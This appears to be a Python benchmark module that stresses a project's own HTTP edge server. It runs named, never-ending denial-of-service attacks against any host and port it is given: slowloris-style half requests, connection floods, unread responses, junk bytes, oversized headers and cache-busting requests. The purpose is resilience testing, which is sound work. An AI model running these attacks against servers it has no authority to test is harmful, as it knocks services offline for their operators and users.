"""What a stranger does to an edge: endless visits, each attack by its name; a process of its own.

``python -m benchmarks.hostile.edge_attacks NAME HOST PORT`` goes on until it is ended.
"""

from __future__ import annotations

import contextlib
import itertools
import random
import socket
import sys
import time
from collections.abc import Callable

HELD = 60
"""Connections that one stranger keeps open: as many as the edge takes here."""
STEP_S = 0.02

Open = Callable[[], socket.socket]
Attack = Callable[[Open], None]

_GET = b"GET /jars/0000.webp HTTP/1.1\r\nHost: a\r\n"


def kept(first: bytes, drip: bytes = b"") -> Attack:
    """Connections that begin a request and do not end it; a new one for each that was closed."""

    def attack(connect: Open) -> None:
        held: list[socket.socket] = []
        for number in itertools.count():
            if len(held) < HELD:
                held.append(connect())
                held[-1].sendall(first)
            elif drip:
                with contextlib.suppress(BlockingIOError):
                    held[number % HELD].send(drip)
            held = [one for one in held if alive(one)]
            time.sleep(STEP_S)

    return attack


def alive(half: socket.socket) -> bool:
    """Whether the other side has left a connection open; what it has sent is read."""
    try:
        half.setblocking(False)
        return half.recv(1 << 16) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def visits(request: Callable[[int], bytes]) -> Attack:
    """Connections that ask for something, hear a little and go."""

    def attack(connect: Open) -> None:
        for number in itertools.count():
            with contextlib.suppress(OSError), connect() as one:
                one.sendall(request(number))
                one.settimeout(2)
                one.recv(1 << 16)
            time.sleep(STEP_S)

    return attack


def flood(connect: Open) -> None:
    """Connections and nothing else, three hundred at a time."""
    held: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            held.append(connect())
        if len(held) > 5 * HELD:
            held.pop(0).close()
        time.sleep(STEP_S / 4)


def unread(connect: Open) -> None:
    """Requests whose answers nobody reads, one after the other on one connection."""
    deaf = connect()
    deaf.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    deaf.setblocking(False)
    while True:
        with contextlib.suppress(BlockingIOError):
            deaf.send(_GET + b"Accept: image/png\r\n\r\n")
        time.sleep(STEP_S)


def garbage(_: int) -> bytes:
    """No HTTP."""
    return b"\x16\x03\x01" + random.randbytes(200) + b"\r\n\r\n"


def wide_accept(number: int) -> bytes:
    """A field as long as an edge takes."""
    accept = b",".join(b"image/x%d;q=0.%03d" % (n + number, n % 1000) for n in range(700))
    return _GET + b"Accept: " + accept[: 14 << 10] + b"\r\nConnection: close\r\n\r\n"


def asked(path: bytes) -> Callable[[int], bytes]:
    """A request for a name that nobody has asked for before."""
    start = random.getrandbits(32)

    def request(number: int) -> bytes:
        name = path % (start + number)
        return b"GET /%s HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" % name

    return request


_BATCH = b"POST /batches HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n"

ATTACKS: dict[str, Attack] = {
    "half headers": kept(_GET + b"X-Slow: "),
    "half bodies": kept(_GET + b"Content-Length: 50\r\n\r\nhalf"),
    "empty lines, one by one": kept(b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n", drip=b"\r\n"),
    "answers unread": unread,
    "connections": flood,
    "garbage": visits(garbage),
    "a huge Accept": visits(wide_accept),
    "SVG of the origin": visits(asked(b"evil-%d.svg")),
    "HTML of the origin": visits(asked(b"evil-%d.html")),
    "missing names": visits(asked(b"none/%d.webp")),
    "a batch that stalls": kept(_BATCH + bytes(100), drip=b"\x00"),
}


def main() -> None:
    """Attack until ended."""
    name, host, port = sys.argv[1:]

    def connect() -> socket.socket:
        return socket.create_connection((host, int(port)), timeout=5)

    while True:
        with contextlib.suppress(OSError):
            ATTACKS[name](connect)


if __name__ == "__main__":
    main()
